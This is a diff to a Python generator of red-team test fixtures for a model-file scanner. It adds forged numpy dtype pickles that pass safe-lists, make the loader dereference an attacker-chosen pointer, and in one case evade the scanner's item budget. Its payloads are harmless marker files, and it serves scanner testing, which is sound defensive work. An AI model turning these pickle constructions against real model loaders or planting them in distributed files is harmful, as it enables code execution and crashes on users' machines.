@@ -7,7 +7,8 @@
 # (Debian python3 3.11, python3-torch 1.13, python3-numpy 1.24, joblib 1.2.)
 # Writes testdata/attacks/redteam/<name> and labels.tsv (name, class,
 # loader, live: "runs" when the payload ran under that loader here,
-# "refused" when the loader raises before any payload, "parsed-only" when
+# "crash" when the loader dies on a signal (memory corruption from a
+# pointer the file controls), "refused" when the loader raises before any payload, "parsed-only" when
 # no stock loader reads that part of the file). The payload is harmless:
 # it creates a file named modelvet-poc in the current folder, and every
 # proof runs in a fresh temporary folder. Do not load them anyway.
@@ -17,6 +18,20 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 OUT = os.path.join(HERE, "attacks", "redteam")
 CMD = "touch modelvet-poc"
 MARK = "modelvet-poc"
+
+# Fixed member dates, so that regenerating changes no archive bytes.
+_writestr = zipfile.ZipFile.writestr
+
+
+def _fixed_date_writestr(self, name, data, *a, **k):
+    if isinstance(name, str):
+        info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
+        info.compress_type = self.compression
+        name = info
+    return _writestr(self, name, data, *a, **k)
+
+
+zipfile.ZipFile.writestr = _fixed_date_writestr
 
 
 class P:
@@ -293,6 +308,60 @@ def numpy_object_array_elements():
     p.mark().i(1).i(1).t1().g("numpy", "dtype").s("O8").op(0x89, 0x88).t3().reduce()
     p.op(0x89).op(b"]").system().op(b"a").tup().op(b"b")
     return p.stop()
+
+
+def forged_dtype(p, fields_before=0, base="V8", field_spec="O8", subarray=False, flags=0):
+    # numpy.dtype(base) + BUILD (3, "|", subarray, names, fields, elsize, 1, flags):
+    # numpy keeps the state's flags as given (arraydescr_setstate).
+    p.g("numpy", "dtype").s(base).op(0x89, 0x88).t3().reduce()
+    elsize = 8 * (fields_before + 1)
+    p.mark().i(3).s("|")
+    if subarray:
+        p.g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(1).t1().t2()
+        p.none().none()
+    elif base.lstrip("|").startswith("O"):
+        p.none().none().none()
+    else:
+        p.none()
+        p.mark()
+        for k in range(fields_before):
+            p.s("f%d" % k)
+        p.s("a").tup()
+        p.mark()
+        for k in range(fields_before):
+            p.s("f%d" % k).g("numpy", "dtype").s("f8").op(0x89, 0x88).t3().reduce().i(8 * k).t2()
+        p.s("a").g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(8 * fields_before).t2().op(b"d")
+    p.i(elsize).i(1).i(flags).tup().op(b"b")
+    return p, elsize
+
+
+def forged_array(**kw):
+    # builtins.str(ndarray whose dtype holds objects but whose flags say
+    # it does not, filled from raw bytes): every name is safe-listed, and
+    # str() dereferences 0x4141414141414141 as a PyObject.
+    p = P(2).g("builtins", "str")
+    p.g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
+    p.mark().i(1).i(1).t1()
+    p, elsize = forged_dtype(p, **kw)
+    p.op(0x89).by(b"\x41" * elsize).tup().op(b"b")
+    return p.t1().reduce().stop()
+
+
+def numpy_forged_dtype_flags():
+    return forged_array()
+
+
+def numpy_forged_object_dtype():
+    return forged_array(base="|O8")
+
+
+def numpy_forged_subarray():
+    return forged_array(base="V8", subarray=True)
+
+
+def numpy_forged_field_past_budget():
+    # the object field is the 201st: past the 256 dict items modelvet keeps
+    return forged_array(fields_before=200)
 
 
 # ---- containers: torch zip -------------------------------------------------
@@ -606,6 +675,10 @@ FIXTURES = [
     ("persid_plain.pkl", persid_plain, "persid-plain-pickle", "pickle.load", "refused"),
     ("nested_load_from_bytes.pkl", nested_load_from_bytes, "nested-torch-bytes", "pickle.load", "runs"),
     ("nested_pickle_b64.pkl", nested_pickle_loads_b64, "nested-base64", "pickle.load", "runs"),
+    ("numpy_forged_dtype_flags.pkl", numpy_forged_dtype_flags, "numpy-dtype-flags-forged", "pickle.load", "crash"),
+    ("numpy_forged_object_dtype.pkl", numpy_forged_object_dtype, "numpy-dtype-flags-forged", "pickle.load", "crash"),
+    ("numpy_forged_subarray.pkl", numpy_forged_subarray, "numpy-dtype-flags-forged", "pickle.load", "crash"),
+    ("numpy_forged_field_past_budget.pkl", numpy_forged_field_past_budget, "numpy-dtype-flags-forged", "pickle.load", "crash"),
     ("numpy_object_elements.pkl", numpy_object_array_elements, "numpy-object-array-elements", "pickle.load", "runs"),
     ("zip_dup_data_pkl_evil_last.pt", zip_dup_data_pkl_evil_last, "zip-duplicate-member", "torch.load", "check"),
     ("zip_dup_data_pkl_evil_first.pt", zip_dup_data_pkl_evil_first, "zip-duplicate-member", "torch.load", "check"),
@@ -680,8 +753,8 @@ def prove(path, loader):
         try:
             r = subprocess.run([sys.executable, "-c", LOADER, path, loader], cwd=d, capture_output=True, text=True, timeout=60)
         except subprocess.TimeoutExpired:
-            return os.path.exists(os.path.join(d, MARK)), ["timed out"]
-        return os.path.exists(os.path.join(d, MARK)), r.stderr.strip().splitlines()[-1:] if r.stderr.strip() else []
+            return os.path.exists(os.path.join(d, MARK)), ["timed out"], 0
+        return os.path.exists(os.path.join(d, MARK)), r.stderr.strip().splitlines()[-1:] if r.stderr.strip() else [], r.returncode
 
 
 def main():
@@ -705,8 +778,9 @@ def main():
             if name in old:
                 rows.append(old[name])
             continue
-        ran, err = prove(path, loader)
-        live = "runs" if ran else ("parsed-only" if expect == "parsed-only" else "refused")
+        ran, err, rc = prove(path, loader)
+        # crash: the loader died on a signal (memory corruption), no marker
+        live = "runs" if ran else "crash" if rc < 0 else ("parsed-only" if expect == "parsed-only" else "refused")
         print("%-36s %-18s %-8s %s" % (name, loader, live, "" if ran else err))
         rows.append((name, cls, loader, live))
     with open(lp, "w") as f:
